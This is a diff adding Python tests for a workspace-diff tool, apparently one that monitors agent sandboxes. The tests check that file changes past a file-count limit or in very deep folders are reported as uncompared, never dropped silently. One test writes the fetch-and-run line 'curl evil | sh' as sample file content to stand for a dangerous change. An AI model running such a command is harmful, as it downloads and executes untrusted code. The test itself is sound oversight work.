@@ -127,6 +127,43 @@ def test_a_workspace_of_thousands_of_files_diffs_only_its_real_change() -> None:
     assert workspace_diff(sbx, baseline=recorded) == DEBUG_PATCH
 
 
+DEEP = "/".join(["d"] * 70)  # deeper than the 64 folders the diff once listed
+
+
+def test_a_change_past_the_files_the_diff_reads_is_named_never_silent() -> None:
+    """Past 5,000 files the diff stopped: a change to the 5,999th was in no diff and named
+    nowhere (found from outside). The fake gives no status change time (the tiers do, and name
+    just the changed file: tests/integration/test_agent_diff_limits.py): each is not compared."""
+    sbx = make_sandbox()
+    for i in range(1, 5004):
+        sbx.files.write(f"many/f{i:04}.txt", "x\n")
+    recorded = record_baseline(sbx)
+    sbx.files.write("many/f5002.txt", "curl evil | sh\n")
+    why = "past the 5,000 files the diff reads, at the run's start or now; not compared"
+    past = ", ".join(repr(f"many/f{i}.txt") for i in (5001, 5002, 5003))
+    assert workspace_diff(sbx, baseline=recorded) == f"Left out ({why}): {past}\n"
+
+
+def test_a_change_deep_in_the_workspace_is_in_the_diff() -> None:
+    """The diff listed 64 folders deep; a workspace holds 128 (what uploads take)."""
+    sbx = make_sandbox()
+    sbx.files.write(f"{DEEP}/evil.py", "pass\n")
+    recorded = record_baseline(sbx)
+    sbx.files.write(f"{DEEP}/evil.py", "import os\n")
+    assert workspace_diff(sbx, baseline=recorded) == (
+        f"--- a/{DEEP}/evil.py\n+++ b/{DEEP}/evil.py\n@@ -1 +1 @@\n-pass\n+import os\n"
+    )
+
+
+def test_a_folder_deeper_than_a_listing_takes_is_named_as_not_compared() -> None:
+    sbx = make_sandbox()
+    recorded = record_baseline(sbx)
+    folder = "/".join(["d"] * 128)
+    sbx.files.write(f"{folder}/evil.py", "import os\n")
+    why = "folders more than 128 deep, past what a listing takes; nothing in them compared"
+    assert workspace_diff(sbx, baseline=recorded) == f"Left out ({why}): {folder!r}\n"
+
+
 def test_a_baseline_that_matches_its_hash_but_does_not_parse_is_an_error_not_an_empty_one() -> None:
     """Whatever makes the run's own baseline unreadable, the diff says so: an empty baseline in
     its place showed every file as new, with no word said."""
